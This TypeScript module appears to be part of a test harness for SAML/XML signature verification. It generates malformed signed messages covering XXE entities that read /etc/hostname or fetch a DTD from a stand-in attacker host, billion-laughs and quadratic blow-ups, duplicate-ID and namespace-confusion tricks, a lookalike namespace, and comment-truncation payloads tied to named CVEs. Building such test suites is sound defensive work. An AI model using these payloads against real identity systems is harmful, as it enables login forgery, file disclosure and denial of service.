import { serialise } from '../generators/serialise.ts';
import {
  childOf,
  type ElementModel,
  element,
  find,
  findAll,
  insertBefore,
  prefixOf,
  raw,
  setAttribute,
  setText,
  text,
  textOf,
} from '../generators/xml-model.ts';
import { ATTACKER, type AttackBase, type AttackRecipe, poison } from './attack.ts';

const LAUGHS = Array.from({ length: 9 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join('');

/** Document types, with what makes each dangerous used in the name. */
const DOCTYPES: Readonly<Record<string, { declaration: string; name?: string }>> = {
  'a plain DOCTYPE': { declaration: '<!DOCTYPE x>' },
  'a DOCTYPE with an external subset': {
    declaration: '<!DOCTYPE x SYSTEM "https://wolf.attacker.example/x.dtd">',
  },
  'an external entity as the name': {
    declaration: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    name: '&e;',
  },
  'an internal entity as the name': {
    declaration: `<!DOCTYPE x [<!ENTITY e "${ATTACKER.nameId}">]>`,
    name: '&e;',
  },
  'a parameter entity': {
    declaration: '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://wolf.attacker.example/p"> %p;]>',
  },
  'nested entities (billion laughs)': { declaration: `<!DOCTYPE x [${LAUGHS}]>`, name: '&l8;' },
  'one long entity used often (quadratic blow-up)': {
    declaration: `<!DOCTYPE x [<!ENTITY e "${'a'.repeat(50_000)}">]>`,
    name: '&e;'.repeat(2_000),
  },
};

function withName(base: AttackBase, markup: string): ElementModel {
  const name = findAll(base.root, 'NameID')[0] ?? findAll(base.root, 'NameIdentifier')[0] ?? base.signed;
  name.children = [raw(markup)];
  return base.root;
}

const WITH_DOCTYPE: readonly AttackRecipe[] = [
  ...Object.entries(DOCTYPES).map(([name, { declaration, name: markup }]) => ({
    name,
    ...(name.includes('laughs') || name.includes('quadratic') ? { exhausting: true as const } : {}),
    make: (base: AttackBase) =>
      `${declaration}${serialise(markup === undefined ? base.root : withName(base, markup))}`,
  })),
  {
    name: 'a DOCTYPE that declares another attribute an ID',
    make: (base) => {
      const evil = base.evil();
      setAttribute(evil, 'Wolf', base.id);
      if (base.rootIsSigned) return undefined;
      insertBefore(base.root, base.signed, evil);
      return `<!DOCTYPE x [<!ATTLIST ${base.signed.name} Wolf ID #IMPLIED>]>${serialise(base.root)}`;
    },
  },
  { name: 'a reference to an entity nobody declared', make: (base) => withName(base, '&wolf;') },
  { name: 'a lower-case doctype', make: (base) => `<!doctype x>${serialise(base.root)}` },
];

function nameOrId(base: AttackBase): ElementModel {
  return (
    findAll(base.signed, 'NameID')[0] ??
    findAll(base.signed, 'NameIdentifier')[0] ??
    find(base.signed, 'DigestValue')
  );
}

const INSTRUCTIONS: readonly AttackRecipe[] = [
  {
    name: 'a processing instruction inside the name',
    make: (base) => {
      const name = nameOrId(base);
      const value = textOf(name);
      name.children = [text(value.slice(0, 4)), raw('<?wolf x?>'), text(value.slice(4))];
      return base.root;
    },
  },
  {
    name: 'a processing instruction between elements of the signed part',
    make: (base) => {
      base.signed.children.unshift(raw('<?wolf x?>'));
      return base.root;
    },
  },
  {
    name: 'a processing instruction in SignedInfo',
    make: (base) => {
      find(base.signature, 'SignedInfo').children.unshift(raw('<?wolf x?>'));
      return base.root;
    },
  },
];

/** Two things of one name or ID. */
const DUPLICATES: readonly AttackRecipe[] = [
  ...(['before', 'after'] as const).map((side) => ({
    name: `the ID attribute twice, the other one ${side}`,
    make: (base: AttackBase) => {
      const other: [string, string] = [base.idAttribute, ATTACKER.id];
      if (side === 'before') base.signed.attributes.unshift(other);
      else base.signed.attributes.push(other);
      return base.root;
    },
  })),
  {
    name: 'one attribute by two prefixes of the same namespace',
    make: (base) => {
      base.signed.attributes.push(
        ['xmlns:u', 'urn:example:u'],
        ['xmlns:v', 'urn:example:u'],
        ['u:w', '1'],
        ['v:w', '2'],
      );
      return base.root;
    },
  },
  {
    name: 'a namespace declared twice on one element',
    make: (base) => {
      base.root.attributes.push(['xmlns:twice', 'urn:example:1'], ['xmlns:twice', 'urn:example:2']);
      return base.root;
    },
  },
  {
    name: 'the signed ID on another element too',
    make: (base) => {
      const status = childOf(base.root, 'Status') ?? childOf(base.root, 'Issuer');
      if (status === undefined) return undefined;
      setAttribute(status, 'ID', base.id);
      return base.root;
    },
  },
  {
    name: 'the signed ID as Id on its own signature',
    make: (base) => {
      setAttribute(base.signature, 'Id', base.id);
      return base.root;
    },
  },
];

const NAMESPACES: readonly AttackRecipe[] = [
  {
    name: 'a prefix nobody declared',
    make: (base) => {
      base.signed.children.push(element('nobody:Subject', {}, ATTACKER.nameId));
      return base.root;
    },
  },
  {
    name: 'a relative namespace name (CVE-2025-66568)',
    make: (base) => {
      poison(base.signed);
      setAttribute(base.signed, 'xmlns:rel', '1');
      setText(find(base.signature, 'DigestValue'), '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=');
      return base.root;
    },
  },
  {
    name: 'a relative namespace name on SignedInfo',
    make: (base) => {
      poison(base.signed);
      setAttribute(find(base.signature, 'SignedInfo'), 'xmlns:rel', '../x');
      return base.root;
    },
  },
  {
    name: 'the prefix xml bound to something else',
    make: (base) => {
      setAttribute(base.root, 'xmlns:xml', 'urn:example:wolf');
      return base.root;
    },
  },
  {
    name: 'a prefix undeclared again',
    make: (base) => {
      base.signed.children.push(element('e:x', { 'xmlns:e': '' }));
      return base.root;
    },
  },
  {
    name: 'the signed element moved to a namespace that looks alike',
    make: (base) => {
      const prefix = prefixOf(base.signed.name);
      setAttribute(
        base.signed,
        prefix === '' ? 'xmlns' : `xmlns:${prefix}`,
        'urn:oasis:names:tc:SAML:2.0:аssertion',
      );
      poison(base.signed);
      return base.root;
    },
  },
];

/** Where parsers part ways: each of these is not well-formed, or not what it says it is. */
const TEXT_TRICKS: readonly AttackRecipe[] = [
  {
    name: 'a forged second root after the message',
    make: (base) => `${base.xml}${serialise(base.evilAssertion() ?? base.evil())}`,
  },
  {
    name: 'the forged message first, the signed one as second root',
    make: (base) => `${serialise(base.evil())}${base.xml}`,
  },
  { name: 'text after the root', make: (base) => `${base.xml}wolf` },
  { name: 'a character reference to nothing allowed', make: (base) => withName(base, 'a&#1;b') },
  { name: 'a NUL in the name', make: (base) => withName(base, 'admin@example.com\0.wolf') },
  { name: 'a reference to NUL in the name', make: (base) => withName(base, 'admin@example.com&#0;.wolf') },
  { name: 'a lone surrogate in the name', make: (base) => withName(base, 'a&#xD800;b') },
  {
    name: 'an attribute without quotes',
    make: (base) => serialise(base.root).replace(/ Version="2\.0"| MajorVersion="1"/, ' Version=2.0'),
  },
  { name: 'an unclosed element', make: (base) => serialise(base.root).replace(/<\/[^>]+>$/, '') },
  {
    name: 'an end tag of another name',
    make: (base) => serialise(base.root).replace(/<\/[^>]+>$/, '</wolf>'),
  },
  { name: 'XML 1.1', make: (base) => `<?xml version="1.1"?>${serialise(base.root)}` },
  {
    name: 'an encoding that it is not in',
    make: (base) => `<?xml version="1.0" encoding="UTF-16"?>${serialise(base.root)}`,
  },
  { name: 'UTF-7', make: (base) => `<?xml version="1.0" encoding="UTF-7"?>${serialise(base.root)}` },
  {
    name: '10,000 nested elements',
    exhausting: true,
    make: (base) => withName(base, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`),
  },
  {
    name: '100,000 attributes',
    exhausting: true,
    make: (base) =>
      withName(base, `<a ${Array.from({ length: 100_000 }, (_, at) => `a${at}=""`).join(' ')}/>`),
  },
  { name: 'a CDATA end in text', make: (base) => withName(base, 'a]]>b') },
];

/** A comment is no part of what is signed, so the signature holds; a reader that stops at it takes the first half. */
const TRUNCATION: readonly AttackRecipe[] = [
  {
    name: 'a comment inside the name (CVE-2018-0489)',
    strictOnly: true,
    make: (base) => {
      const name = findAll(base.signed, 'NameID')[0] ?? findAll(base.signed, 'NameIdentifier')[0];
      if (name === undefined) return undefined;
      const value = textOf(name);
      name.children = [text(value.slice(0, 3)), raw('<!---->'), text(value.slice(3))];
      return base.root;
    },
  },
  {
    name: 'a comment inside an attribute value',
    strictOnly: true,
    make: (base) => {
      const value = findAll(base.signed, 'AttributeValue').find((found) => textOf(found).length > 4);
      if (value === undefined) return undefined;
      const all = textOf(value);
      value.children = [text(all.slice(0, 2)), raw('<!--wolf-->'), text(all.slice(2))];
      return base.root;
    },
  },
];

export const DOCUMENT_ATTACKS: readonly AttackRecipe[] = [
  ...WITH_DOCTYPE,
  ...INSTRUCTIONS,
  ...DUPLICATES,
  ...NAMESPACES,
  ...TEXT_TRICKS,
  ...TRUNCATION,
];
